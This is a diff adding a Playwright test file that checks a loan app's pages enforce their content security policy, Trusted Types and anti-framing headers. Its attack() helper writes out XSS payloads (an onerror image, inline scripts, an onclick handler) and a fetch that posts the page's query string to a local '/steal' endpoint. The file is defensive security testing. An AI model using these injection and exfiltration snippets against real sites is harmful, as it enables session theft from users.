@@ -1,0 +1,152 @@
+import { createServer, type Server } from 'node:http';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect } from 'vitest';
+import { type Borrower, site, useBorrower, withBrowser } from './borrower.ts';
+import { DATA_SCREENS, OTHER_ROUTES } from './screens.ts';
+
+const TEXTS = ['aboutUs', 'privacyPolicy', 'loanAgreement'];
+
+const PAGES = [
+  ...DATA_SCREENS.map(({ route, ready, query }) => ({ route, ready, query })),
+  ...[...OTHER_ROUTES, ...TEXTS].map((route) => ({ route, ready: '', query: undefined })),
+];
+
+async function openPage({ page, open }: Borrower, { route, ready, query }: (typeof PAGES)[number]) {
+  await open(route === 'officialSite' ? '' : route, 'due-extendable', query);
+  if (ready) await page.getByText(ready).first().waitFor();
+  else await page.waitForLoadState('networkidle');
+}
+
+/** What an attacker's script would try, and what the browser says to it. */
+function attack(page: Page, foreign: string) {
+  return page.evaluate(async (elsewhere) => {
+    const refused: string[] = [];
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      refused.push(effectiveDirective),
+    );
+    const script = document.createElement('script');
+    try {
+      script.text = 'window.owned = 1';
+    } catch {
+      refused.push('trusted script');
+    }
+    const inline = document.createElement('script');
+    inline.append('window.owned = 1');
+    document.body.append(script, inline);
+    try {
+      document.createElement('div').innerHTML = '<img src=x onerror="window.owned=1">';
+    } catch {
+      refused.push('trusted markup');
+    }
+    try {
+      document.body.setAttribute('onclick', 'window.owned = 1');
+      document.body.click();
+    } catch {
+      refused.push('trusted handler');
+    }
+    const frame = document.createElement('iframe');
+    frame.src = elsewhere;
+    document.body.append(frame);
+    const form = document.createElement('form');
+    form.method = 'post';
+    form.action = elsewhere;
+    document.body.append(form);
+    form.submit();
+    await fetch(elsewhere, { method: 'POST', mode: 'no-cors', body: location.search }).catch(
+      () => undefined,
+    );
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    return { refused, owned: Object(window).owned };
+  }, foreign);
+}
+
+describe('the policy of every page, as the browser enforces it', () => {
+  const borrower = useBorrower();
+  let server: Server | undefined;
+  let foreign = '';
+  const arrived: string[] = [];
+
+  beforeAll(async () => {
+    server = createServer((request, response) => {
+      const { pathname, searchParams } = new URL(request.url ?? '', 'http://foreign');
+      if (pathname === '/frame') {
+        const src = searchParams.get('of') ?? '';
+        response.setHeader('Content-Type', 'text/html');
+        response.end(`<!doctype html><iframe src="${src.replace(/"/g, '&quot;')}"></iframe>`);
+        return;
+      }
+      arrived.push(`${request.method} ${request.url}`);
+      response.end('foreign');
+    });
+    await new Promise<void>((resolve) => server?.listen(0, '127.0.0.1', resolve));
+    const address = server.address();
+    foreign = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}/steal`;
+  });
+  afterAll(() => void server?.close());
+
+  for (const one of PAGES) {
+    withBrowser(`${one.route}: refuses inline script, foreign frame and foreign post`, async () => {
+      const { page } = borrower();
+      await openPage(borrower(), one);
+      const { refused, owned } = await attack(page, foreign);
+      expect(owned).toBeUndefined();
+      expect(new Set(refused)).toEqual(
+        new Set([
+          'trusted script',
+          'trusted markup',
+          'require-trusted-types-for',
+          'trusted handler',
+          'frame-src',
+          'form-action',
+          'connect-src',
+        ]),
+      );
+      expect(arrived).toEqual([]);
+    });
+
+    withBrowser(
+      `${one.route}: asks nobody else, and tells nobody who the borrower is`,
+      async () => {
+        const { page, sessionId } = borrower();
+        const asked: string[] = [];
+        const told: string[] = [];
+        page.on('request', (request) => {
+          asked.push(new URL(request.url()).origin);
+          const { referer } = request.headers();
+          if (referer?.includes(sessionId)) told.push(`referrer of ${request.url()}`);
+        });
+        page.on('console', (message) => {
+          if (message.text().includes(sessionId)) told.push(message.text());
+        });
+        await openPage(borrower(), one);
+        expect(new Set(asked)).toEqual(new Set([site]));
+        expect(told).toEqual([]);
+      },
+    );
+  }
+
+  const framed = (sessionId: string) => {
+    const query = new URLSearchParams({ sessionId, productId: '7', orderId: 'due-extendable' });
+    return new URL(`/frame?${new URLSearchParams({ of: `${site}/repayment?${query}` })}`, foreign)
+      .href;
+  };
+
+  withBrowser('is not shown inside a foreign site: the header refuses', async () => {
+    const { page, sessionId } = borrower();
+    await page.goto(framed(sessionId));
+    await expect.poll(() => page.frames().some(({ url }) => /chrome-error/.test(url()))).toBe(true);
+    expect(await page.frameLocator('iframe').getByText('Amount to repay').count()).toBe(0);
+  });
+
+  withBrowser('is not shown inside a foreign site where the header is missing either', async () => {
+    const { page, context, sessionId } = borrower();
+    await context.route(/\/repayment\?/, async (route) => {
+      const response = await route.fetch();
+      const { 'content-security-policy': _, ...headers } = response.headers();
+      await route.fulfill({ response, headers });
+    });
+    await page.goto(framed(sessionId));
+    await page.frameLocator('iframe').getByText('Open this page in the app').waitFor();
+    expect(await page.frameLocator('iframe').getByText('Amount to repay').count()).toBe(0);
+  });
+});
